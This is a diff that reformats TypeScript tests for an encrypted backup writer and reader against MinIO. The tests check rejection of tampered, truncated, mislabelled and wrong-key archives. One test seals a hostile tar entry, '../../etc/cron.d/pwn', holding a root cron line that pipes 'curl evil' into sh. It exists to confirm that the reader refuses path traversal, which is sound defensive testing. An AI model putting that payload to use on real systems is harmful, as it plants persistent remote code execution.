@@ -8,19 +8,47 @@ import tar from 'tar-stream';
 import { describe, expect, it } from 'vitest';
 import { sealTar, type ArchiveEntry } from '../../activities/archive/index.ts';
 import { uploadStream } from '../../activities/storage/upload.ts';
-import { createStorageActivities, objectKeyFor, readBackup, writeBackup, type BackupProgress } from '../../activities/storage/index.ts';
+import {
+  createStorageActivities,
+  objectKeyFor,
+  readBackup,
+  writeBackup,
+  type BackupProgress,
+} from '../../activities/storage/index.ts';
 import { FailureType } from '../../types/index.ts';
 import { expectBadArchive, testKey } from '../archive/helpers.ts';
 import { freshBucket, testS3 } from '../helpers/s3.ts';
-import { generated, manifestInfo, objectBytes, objectKeys, pendingUploads, secretYaml, sha256, smallEntries } from './helpers.ts';
+import {
+  generated,
+  manifestInfo,
+  objectBytes,
+  objectKeys,
+  pendingUploads,
+  secretYaml,
+  sha256,
+  smallEntries,
+} from './helpers.ts';
 
 const s3 = testS3();
 const backupKey = testKey();
 const MiB = 1024 * 1024;
 
-async function backupOf(bucket: string, entries: ArchiveEntry[], extra: Partial<Parameters<typeof writeBackup>[0]> = {}) {
+async function backupOf(
+  bucket: string,
+  entries: ArchiveEntry[],
+  extra: Partial<Parameters<typeof writeBackup>[0]> = {},
+) {
   const key = objectKeyFor('pno/backups', manifestInfo.workflowId);
-  const result = await writeBackup({ s3, bucket, key, entries, keyMaterial: backupKey, manifest: manifestInfo, partSize: 5 * MiB, ...extra });
+  const result = await writeBackup({
+    s3,
+    bucket,
+    key,
+    entries,
+    keyMaterial: backupKey,
+    manifest: manifestInfo,
+    partSize: 5 * MiB,
+    ...extra,
+  });
   return { key, result };
 }
 
@@ -40,7 +68,11 @@ describe('writeBackup and verifyBackup against MinIO', () => {
     const progress: BackupProgress[] = [];
     const { key, result } = await backupOf(
       bucket,
-      [...smallEntries(), { path: 'resources/core/secrets/pno-api.yaml', size: secret.length, source: secret }, { path: 'model/weights.bin', size: 12 * MiB, source: model.stream }],
+      [
+        ...smallEntries(),
+        { path: 'resources/core/secrets/pno-api.yaml', size: secret.length, source: secret },
+        { path: 'model/weights.bin', size: 12 * MiB, source: model.stream },
+      ],
       { onProgress: (p) => progress.push({ ...p }) },
     );
 
@@ -49,7 +81,11 @@ describe('writeBackup and verifyBackup against MinIO', () => {
     const head = await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: key }));
     expect(head.ContentLength).toBe(result.objectBytes);
     expect(head.Metadata).toEqual({ 'pno-key-id': backupKey.id, 'pno-format': 'pno-backup-v1' });
-    expect(result.manifest.entries.map((e) => e.path)).toEqual(['resources/apps/deployments/pno-api.yaml', 'resources/core/secrets/pno-api.yaml', 'model/weights.bin']);
+    expect(result.manifest.entries.map((e) => e.path)).toEqual([
+      'resources/apps/deployments/pno-api.yaml',
+      'resources/core/secrets/pno-api.yaml',
+      'model/weights.bin',
+    ]);
     expect(result.manifest.entries[2]?.sha256).toBe(model.digest());
     expect(progress.at(-1)).toMatchObject({ entries: 3 });
     expect(Math.max(...progress.map((p) => p.bytes))).toBe(result.manifest.totalBytes);
@@ -84,11 +120,17 @@ describe('writeBackup and verifyBackup against MinIO', () => {
 
     // And the reader hands the exact bytes back to a consumer.
     const received = new Map<string, string>();
-    await readBackup({ s3, bucket, key, keyMaterial: backupKey, onEntry: async (entry, body) => {
-      const chunks: Buffer[] = [];
-      for await (const chunk of body) chunks.push(chunk as Buffer);
-      received.set(entry.path, sha256(Buffer.concat(chunks)));
-    } });
+    await readBackup({
+      s3,
+      bucket,
+      key,
+      keyMaterial: backupKey,
+      onEntry: async (entry, body) => {
+        const chunks: Buffer[] = [];
+        for await (const chunk of body) chunks.push(chunk as Buffer);
+        received.set(entry.path, sha256(Buffer.concat(chunks)));
+      },
+    });
     expect(received.get('model/weights.bin')).toBe(model.digest());
     expect(received.get('resources/core/secrets/pno-api.yaml')).toBe(sha256(secret));
   });
@@ -106,7 +148,10 @@ describe('writeBackup and verifyBackup against MinIO', () => {
   describe('refuses a stored object that is not exactly what was written', () => {
     const tampered = async (change: (bytes: Buffer) => Buffer, message: RegExp) => {
       const bucket = await freshBucket('backup');
-      const { key } = await backupOf(bucket, [...smallEntries(), { path: 'model/weights.bin', size: 300_000, source: generated(300_000).stream }]);
+      const { key } = await backupOf(bucket, [
+        ...smallEntries(),
+        { path: 'model/weights.bin', size: 300_000, source: generated(300_000).stream },
+      ]);
       await replaceObject(bucket, key, change);
       await expectBadArchive(createStorageActivities({ s3, bucket, backupKey }).verifyBackup({ key }), message);
     };
@@ -120,20 +165,35 @@ describe('writeBackup and verifyBackup against MinIO', () => {
     });
 
     it('a truncated object', async () => {
-      await tampered((bytes) => bytes.subarray(0, bytes.length - 1000), /failed authentication at chunk \d+ \(tampered, truncated or extended\)/);
+      await tampered(
+        (bytes) => bytes.subarray(0, bytes.length - 1000),
+        /failed authentication at chunk \d+ \(tampered, truncated or extended\)/,
+      );
       await tampered((bytes) => bytes.subarray(0, 20), /shorter than its header/);
     });
 
-    it('an archive with a ../ entry, sealed with the product\'s own writer and key', async () => {
+    it("an archive with a ../ entry, sealed with the product's own writer and key", async () => {
       const bucket = await freshBucket('backup');
       const pack = tar.pack();
       pack.entry({ name: '../../etc/cron.d/pwn' }, Buffer.from('* * * * * root sh -c "curl evil | sh"\n'));
       pack.finalize();
       const key = 'pno/backups/hostile.tar.gz.enc';
-      await uploadStream({ s3, bucket, key, body: sealTar(pack as unknown as Readable, backupKey).stream, metadata: { 'pno-key-id': backupKey.id, 'pno-format': 'pno-backup-v1' } });
+      await uploadStream({
+        s3,
+        bucket,
+        key,
+        body: sealTar(pack as unknown as Readable, backupKey).stream,
+        metadata: { 'pno-key-id': backupKey.id, 'pno-format': 'pno-backup-v1' },
+      });
       const delivered: string[] = [];
       await expectBadArchive(
-        readBackup({ s3, bucket, key, keyMaterial: backupKey, onEntry: async (entry) => void delivered.push(entry.path) }),
+        readBackup({
+          s3,
+          bucket,
+          key,
+          keyMaterial: backupKey,
+          onEntry: async (entry) => void delivered.push(entry.path),
+        }),
         /entry "..\/..\/etc\/cron.d\/pwn": ".." segment/,
       );
       expect(delivered).toEqual([]);
@@ -146,7 +206,10 @@ describe('writeBackup and verifyBackup against MinIO', () => {
       const verify = () => createStorageActivities({ s3, bucket, backupKey: other }).verifyBackup({ key });
       await expectBadArchive(verify(), new RegExp(`sealed with key ${backupKey.id}; the loaded key is ${other.id}`));
       await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: await objectBytes(s3, bucket, key) }));
-      await expectBadArchive(verify(), new RegExp(`archive was sealed with key ${backupKey.id}; the loaded key is ${other.id}`));
+      await expectBadArchive(
+        verify(),
+        new RegExp(`archive was sealed with key ${backupKey.id}; the loaded key is ${other.id}`),
+      );
     });
   });
 
@@ -156,21 +219,43 @@ describe('writeBackup and verifyBackup against MinIO', () => {
     const bytes = await objectBytes(s3, bucket, key);
     const verify = () => createStorageActivities({ s3, bucket, backupKey }).verifyBackup({ key });
     for (const [format, message] of [
-      ['pno-backup-v2', /^s3:\/\/\S+: format version 2 cannot be read; this reader reads format v1 \(a newer release may have written it\)$/],
+      [
+        'pno-backup-v2',
+        /^s3:\/\/\S+: format version 2 cannot be read; this reader reads format v1 \(a newer release may have written it\)$/,
+      ],
       ['tarball', /^s3:\/\/\S+: format "tarball" is not a PNO backup format$/],
     ] as const) {
-      await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: bytes, Metadata: { 'pno-key-id': backupKey.id, 'pno-format': format } }));
+      await s3.send(
+        new PutObjectCommand({
+          Bucket: bucket,
+          Key: key,
+          Body: bytes,
+          Metadata: { 'pno-key-id': backupKey.id, 'pno-format': format },
+        }),
+      );
       await expectBadArchive(verify(), message);
     }
     // The same bytes labelled v1 read as before: the refusal came from the label alone.
-    await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: bytes, Metadata: { 'pno-key-id': backupKey.id, 'pno-format': 'pno-backup-v1' } }));
+    await s3.send(
+      new PutObjectCommand({
+        Bucket: bucket,
+        Key: key,
+        Body: bytes,
+        Metadata: { 'pno-key-id': backupKey.id, 'pno-format': 'pno-backup-v1' },
+      }),
+    );
     await expect(verify()).resolves.toMatchObject({ entries: 1 });
   });
 
   it('reports a missing object or bucket as a permanent NotFound', async () => {
     const bucket = await freshBucket('backup');
-    for (const [b, message] of [[bucket, /NoSuchKey/], [`${bucket}-gone`, /NoSuchBucket/]] as const) {
-      const err = await createStorageActivities({ s3, bucket: b, backupKey }).verifyBackup({ key: 'pno/backups/none.tar.gz.enc' }).catch((e: unknown) => e);
+    for (const [b, message] of [
+      [bucket, /NoSuchKey/],
+      [`${bucket}-gone`, /NoSuchBucket/],
+    ] as const) {
+      const err = await createStorageActivities({ s3, bucket: b, backupKey })
+        .verifyBackup({ key: 'pno/backups/none.tar.gz.enc' })
+        .catch((e: unknown) => e);
       expect(err).toBeInstanceOf(ApplicationFailure);
       expect(err).toMatchObject({ type: FailureType.notFound, nonRetryable: true });
       expect((err as Error).message).toMatch(message);
@@ -178,7 +263,9 @@ describe('writeBackup and verifyBackup against MinIO', () => {
   });
 
   it('refuses to verify without a key, naming the variables', async () => {
-    const err = await createStorageActivities({ s3, bucket: 'any' }).verifyBackup({ key: 'k' }).catch((e: unknown) => e);
+    const err = await createStorageActivities({ s3, bucket: 'any' })
+      .verifyBackup({ key: 'k' })
+      .catch((e: unknown) => e);
     expect(err).toMatchObject({ type: FailureType.invalidInput, nonRetryable: true });
     expect((err as Error).message).toMatch(/PNO_BACKUP_KEY or PNO_BACKUP_KEY_FILE/);
   });
@@ -203,12 +290,16 @@ describe('writeBackup and verifyBackup against MinIO', () => {
       const bucket = await freshBucket('backup');
       const controller = new AbortController();
       const reason = new Error('activity cancelled');
-      const err = await backupOf(bucket, [{ path: 'model/weights.bin', size: 40 * MiB, source: generated(40 * MiB).stream }], {
-        signal: controller.signal,
-        onProgress: (p) => {
-          if (p.uploadedBytes >= 5 * MiB) controller.abort(reason);
+      const err = await backupOf(
+        bucket,
+        [{ path: 'model/weights.bin', size: 40 * MiB, source: generated(40 * MiB).stream }],
+        {
+          signal: controller.signal,
+          onProgress: (p) => {
+            if (p.uploadedBytes >= 5 * MiB) controller.abort(reason);
+          },
         },
-      }).catch((e: unknown) => e);
+      ).catch((e: unknown) => e);
       expect(err).toBe(reason);
       expect(await objectKeys(s3, bucket)).toEqual([]);
       expect(await pendingUploads(s3, bucket)).toEqual([]);
@@ -216,7 +307,10 @@ describe('writeBackup and verifyBackup against MinIO', () => {
 
     it('an entry the writer refuses (non-retryable, before anything is stored)', async () => {
       const bucket = await freshBucket('backup');
-      const err = await backupOf(bucket, [...smallEntries(), { path: '../outside', size: 1, source: Buffer.from('x') }]).catch((e: unknown) => e);
+      const err = await backupOf(bucket, [
+        ...smallEntries(),
+        { path: '../outside', size: 1, source: Buffer.from('x') },
+      ]).catch((e: unknown) => e);
       expect(err).toMatchObject({ type: FailureType.invalidInput, nonRetryable: true });
       expect(await objectKeys(s3, bucket)).toEqual([]);
       expect(await pendingUploads(s3, bucket)).toEqual([]);
